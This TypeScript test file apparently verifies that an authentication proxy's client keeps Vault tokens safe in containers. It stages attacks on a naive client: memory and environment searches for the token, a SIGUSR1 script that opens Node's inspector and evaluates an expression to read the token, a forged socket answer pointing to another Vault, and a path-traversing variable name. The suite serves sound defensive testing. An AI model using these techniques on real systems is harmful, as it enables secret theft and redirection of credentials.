// Attacks on the client and on what it leaves: its memory, Node's debugger, the socket that it
// trusts, the files that it writes. The real bundle, in images as Dockerfile.example has them.
import { chmodSync, copyFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { client } from "../../scripts/openbao.ts";
import type { JsonObject } from "../../server/json.ts";
import { Gate } from "../gate.ts";
import {
  bao,
  base,
  type Container,
  type ContainerOptions,
  image as example,
  lookUp,
  type Stage,
  vaultAt,
} from "../stage.ts";
import {
  compile,
  decision,
  decisions,
  honest,
  imageOver,
  imageWith,
  naive,
  newStage,
  ours,
  pidOf,
  run,
  SOCKET,
  startThief,
  type Target,
  USER,
} from "./arena.ts";
import { naiveClient } from "./naive-client.ts";
import { attack } from "./table.ts";

const programs = ["trusted", "search", "early"];
const image = await imageOver(example, [], { programs });
/** The same client, with a Node that its user may read. */
const readable = await imageOver(base, ["COPY authproxy.js /authproxy/authproxy.js"], {
  programs,
  arrange: (directory) => {
    const bundle = join(import.meta.dirname, "../../dist/authproxy.js");
    copyFileSync(bundle, join(directory, "authproxy.js"));
  },
});
const unchecked = imageWith(["trusted", "impostor"]);

const FLAG = "--disable-sigusr1";
const BUNDLE = ["/authproxy/authproxy.js", "--"];
const CONFIG = 78;
const FOUND = /thief got: (s\.\w+) in (\w+)/;

/** Our server, whose clients reach Vault through a gate. */
async function gated(stage: Stage, changes: JsonObject = {}) {
  const gate = await Gate.before(bao.address);
  stage.defer(() => gate.shut());
  const for_clients = { address: gate.address };
  const target = await ours(stage, { vault: { ...vaultAt(bao.address), for_clients }, ...changes });
  return { ...target, gate };
}

/** A container whose client has its token, and waits for Vault. */
async function holdingToken(stage: Stage, options: ContainerOptions) {
  const { server, gate } = await gated(stage);
  const held = gate.hold();
  const container = await stage.container(options);
  await held;
  await server.until({ event: "granted", container: container.id });
  return { server, gate, container };
}

/** The container that Vault says the token is of. */
async function ownerOf(token: string | undefined) {
  const { data } = await client(bao).write("auth/token/lookup", { token });
  return data.meta.container;
}

describe("a search of the application's memory and environment", () => {
  const note = attack("11", "not separable: execve(2) leaves nothing, or it is not called");
  const become = 'process.execve("/app/trusted", ["trusted"], { VAULT_TOKEN: grant.token });';

  test("finds the token that a naive client has put there", async () => {
    await using stage = newStage();
    const { server } = await ours(stage);
    const container = await stage.container({
      image: readable,
      entrypoint: naiveClient(become),
      command: [],
    });
    await server.until({ event: "granted", container: container.id });
    const { output } = await searched(container, /environ/);
    const [, token] = FOUND.exec(output) ?? [];
    expect(await ownerOf(token)).toBe(container.id);
    note("naive", "falls");
  });

  test("finds none after ours, as the same user and as the host's root", async () => {
    await using stage = newStage();
    const { server } = await ours(stage);
    const container = await stage.container({ image, command: ["/app/trusted"] });
    const { accessor } = await server.until({ event: "granted", container: container.id });
    const { output } = await searched(container, /found in many bytes/);
    expect(output).toContain("thief: 0 found in many bytes");
    const root = startThief(stage, compile("search"), `${await pidOf(container)}`);
    expect(await root.ended).toContain("thief: 0 found in many bytes");
    expect(await lookUp(accessor)).toBeDefined(); // it lives: there was something to find
    note("defended", "nothing there, for the host's root either");
    note("honest", "served");
  });

  /** Searches until the client has become the application. */
  async function searched(container: Container, wanted: RegExp) {
    for (;;) {
      const result = await container.exec("/app/search", "1");
      if (wanted.test(result.output)) return result;
      expect(result.output).toMatch(/Permission denied|in memory|0 found/);
    }
  }
});

describe("a search of the client's memory, while it has the token", () => {
  const note = attack("11b");

  test("finds it where the user may read the client's Node", async () => {
    await using stage = newStage();
    const entrypoint = ["node", FLAG, ...BUNDLE];
    const command = ["/app/trusted"];
    const { container } = await holdingToken(stage, { image: readable, entrypoint, command });
    const { output } = await container.exec("/app/search", "1");
    const [, token] = FOUND.exec(output) ?? [];
    expect(await ownerOf(token)).toBe(container.id);
    note("naive", "falls (any client that can be read)");
    note("minus one", "Node not execute-only: falls");
  });

  test("is denied where Node is execute-only", async () => {
    await using stage = newStage();
    const { gate, container } = await holdingToken(stage, { image, command: ["/app/trusted"] });
    const { output } = await container.exec("/app/search", "1");
    expect(output).toContain("thief: Permission denied");
    gate.release();
    note("defended", "the kernel: Permission denied");
    note("honest", "served");
  });
});

/** Signals the first process, and asks its inspector for `expression`, once that is open or can no
 * longer open: the signal is blocked, and waits for ever. */
function debuggerFor(expression: string): string[] {
  const script = `
    const { readFileSync } = require("node:fs");
    const mask = (name) => BigInt("0x" + new RegExp("^" + name + ":\\\\s*(\\\\w+)", "m")
      .exec(readFileSync("/proc/1/status", "latin1"))[1]) >> 9n & 1n;
    async function inspect() {
      const [{ webSocketDebuggerUrl }] = await (await fetch("http://127.0.0.1:9229/json")).json();
      const socket = new WebSocket(webSocketDebuggerUrl);
      socket.onopen = () => socket.send(JSON.stringify(
        { id: 1, method: "Runtime.evaluate", params: { expression: ${JSON.stringify(expression)} } }));
      socket.onmessage = ({ data }) => {
        console.log("thief got: " + JSON.parse(data).result.result.value);
        process.exit();
      };
    }
    if (process.argv[1] === "signal") process.kill(1, "SIGUSR1");
    (function attempt() {
      inspect().catch(({ cause }) => {
        if (mask("SigBlk")) console.log("thief: no inspector, " + cause.code);
        else setTimeout(attempt, 10);
      });
    })();`;
  return ["node", FLAG, "-e", script];
}

describe("SIGUSR1 to a client that has its token", () => {
  const note = attack("12");
  const hold = 'globalThis.answer = parts.join(""); setInterval(() => {}, 60000);';

  test("opens a naive client's inspector, which tells the token", async () => {
    await using stage = newStage();
    await naive(stage);
    const victim = await run(stage, { image: readable, command: naiveClient(hold) });
    const { output } = await victim.exec(...debuggerFor("globalThis.answer"), "signal");
    expect(output).toMatch(/thief got: .*"token"/);
    note("naive", "falls");
  });

  test("opens nothing in ours: the signal stays blocked", async () => {
    await using stage = newStage();
    const { gate, container } = await holdingToken(stage, { image, command: ["/app/trusted"] });
    const { output } = await container.exec(...debuggerFor("process.pid"), "signal");
    expect(output).toContain("thief: no inspector, ECONNREFUSED");
    gate.release();
    note("defended", "--disable-sigusr1: blocked");
    note("honest", "served");
  });

  test("cannot come, where ours was started without --disable-sigusr1: it asks for no token", async () => {
    await using stage = newStage();
    const { server } = await ours(stage);
    const container = await stage.container({
      image,
      entrypoint: ["node", ...BUNDLE],
      command: ["/app/trusted"],
    });
    expect(await container.ended).toBe(CONFIG);
    expect(container.output).toContain("SIGUSR1 would open Node's inspector");
    expect(decisions(server, container)).toEqual([]);
    note("minus one", "without the flag: exit 78, no token is asked for");
  });
});

describe("SIGUSR1 at the first moment at which it does not kill", () => {
  const note = attack("36");

  test("opens the inspector of a client whose script handles it in its first line", async () => {
    await using stage = newStage();
    await naive(stage);
    const [node = "", flag = "", script = ""] = naiveClient(
      'globalThis.answer = parts.join(""); setInterval(() => {}, 60000);',
    );
    const first = `process.on("SIGUSR1", () => {}); ${script}`;
    const command = ["/app/early", node, flag, first];
    const victim = await run(stage, { image: readable, command });
    const { output } = await victim.exec(...debuggerFor("globalThis.answer"));
    expect(output).toMatch(/thief got: .*"token"/);
    note("naive", "falls (a handler in the script)");
  });

  test("opens none in ours, which is served", async () => {
    await using stage = newStage();
    const { server } = await ours(stage);
    const entrypoint = ["/app/early", "node", FLAG, ...BUNDLE];
    const container = await stage.container({ image, entrypoint, command: ["/app/trusted"] });
    await server.until({ event: "granted", container: container.id });
    expect(container.output).not.toContain("Debugger listening");
    note("defended", "--disable-sigusr1: blocked");
    note("honest", "served");
  });

  test("opens it in ours without --disable-sigusr1, which then asks for no token", async () => {
    await using stage = newStage();
    const { server } = await ours(stage);
    const entrypoint = ["/app/early", "node", ...BUNDLE];
    const container = await stage.container({ image, entrypoint, command: ["/app/trusted"] });
    expect(await container.ended).toBe(CONFIG);
    expect(container.output).toContain("inspector");
    expect(decisions(server, container)).toEqual([]);
    note("minus one", "without the flag: exit 78, no token is asked for");
  });
});

describe("a container that replaces the socket", () => {
  const root = attack("18");
  const user = attack("18b", "not separable: of two looks, at the directory and at the socket");

  /** An answer that leads its reader to another Vault than the server's. */
  const forged = (address: string) =>
    JSON.stringify({
      service: "app",
      token: "forged",
      wrapped: false,
      ttl: 60,
      renewable: false,
      vault: { address, ca: bao.ca },
    });

  /** The impostor's container, when it has tried. */
  async function replaced({ stage }: Target, mode: "ro" | "rw", uid: number, text: string) {
    const command = ["/app/impostor", SOCKET, text];
    const impostor = await run(stage, { image: unchecked, command, user: uid, labels: {}, mode });
    await Promise.race([impostor.says("in its place"), impostor.ended]);
    return impostor;
  }

  const asking = { image: unchecked, command: ["/app/trusted", SOCKET] };

  test("as root, by a writable mount, has its answer taken by a client that does not look", async () => {
    await using stage = newStage();
    await replaced(await ours(stage), "rw", 0, forged("https://nowhere.invalid"));
    const victim = await run(stage, asking);
    expect(await victim.says("trusted: end")).toContain("forged");
    root("naive", "clients fall");
  });

  test("as root, by a writable mount, has it taken by ours too: all is root's", async () => {
    await using stage = newStage();
    const { gate, ...target } = await gated(stage);
    await replaced(target, "rw", 0, forged(gate.address));
    const led = gate.nextConnection();
    const victim = await stage.container();
    await led;
    expect(decisions(target.server, victim)).toEqual([]);
    root("minus one", "without the read-only mount: clients fall, ours too");
  });

  test("as root, by a read-only mount, cannot: Read-only file system", async () => {
    await using stage = newStage();
    const impostor = await replaced(await ours(stage), "ro", 0, forged("https://nowhere.invalid"));
    expect(impostor.output).toContain("impostor: Read-only file system");
    root("defended", "the read-only mount");
    await honest(stage, unchecked, root);
  });

  test("as a user, in a directory that others can write, has it taken by who does not look", async () => {
    await using stage = newStage();
    const target = await ours(stage);
    chmodSync(join(stage.directory, "run"), 0o777);
    await replaced(target, "rw", USER, forged("https://nowhere.invalid"));
    const victim = await run(stage, asking);
    expect(await victim.says("trusted: end")).toContain("forged");
    user("naive", "clients fall");
  });

  test("as a user, in such a directory, has it not taken by ours: exit 78", async () => {
    await using stage = newStage();
    const target = await ours(stage);
    chmodSync(join(stage.directory, "run"), 0o777);
    await replaced(target, "rw", USER, forged("https://nowhere.invalid"));
    const victim = await stage.container();
    expect(await victim.ended).toBe(CONFIG);
    expect(victim.output).toContain("/run/authproxy can be written by others than its owner");
    user("defended", "the client's look: exit 78");
  });

  test("does not, and ours is served", async () => {
    await using stage = newStage();
    const { server } = await ours(stage);
    const container = await stage.container();
    await server.until({ event: "granted", container: container.id });
    user("honest", "served");
  });
});

describe("a variable whose name leads out of the directory for secrets", () => {
  const note = attack("40", "not separable: one pattern; its tests are in test/client.test.ts");
  const environment = { "A/../../other/x_FILE": "vault:secret/data/app#password" };

  test("makes a naive client write there", async () => {
    await using stage = newStage();
    await naive(stage);
    const write = `for (const name of Object.keys(process.env)) if (name.endsWith("_FILE"))
      fs.writeFileSync(path.join("/run/authproxy-secrets", name.slice(0, -5)), grant.token);
      console.log("written"); setInterval(() => {}, 60000);`;
    const command = naiveClient(write);
    const host = { Tmpfs: { "/run/other": `uid=${USER}` } };
    const victim = await run(stage, { image: readable, command, environment, host });
    await victim.says("written");
    expect((await victim.exec("cat", "/run/other/x")).output).toBe("naive");
    note("naive", "writes /run/other/x");
  });

  test("has ours write a file whose name it has made safe", async () => {
    await using stage = newStage();
    const { server } = await ours(stage);
    const look = `console.log(process.env["A/../../other/x_FILE"], fs.readdirSync("/run/other"));
      setInterval(() => {}, 60000);`;
    const command = ["node", "-e", look];
    const secrets = { "/run/authproxy-secrets": `uid=${USER},mode=0700` };
    const host = { Tmpfs: { ...secrets, "/run/other": `uid=${USER}` } };
    const wanted = { image: example, command, environment, host };
    const victim = await run(stage, { ...wanted, network: "host" });
    await victim.says("[]");
    expect(victim.output).toContain("/run/authproxy-secrets/A%2F..%2F..%2Fother%2Fx []");
    note("defended", "written as A%2F..%2F..%2Fother%2Fx, below the directory");
    const right = await stage.container();
    expect(await decision(server, right)).toMatchObject({ event: "granted" });
    note("honest", "served");
  });
});
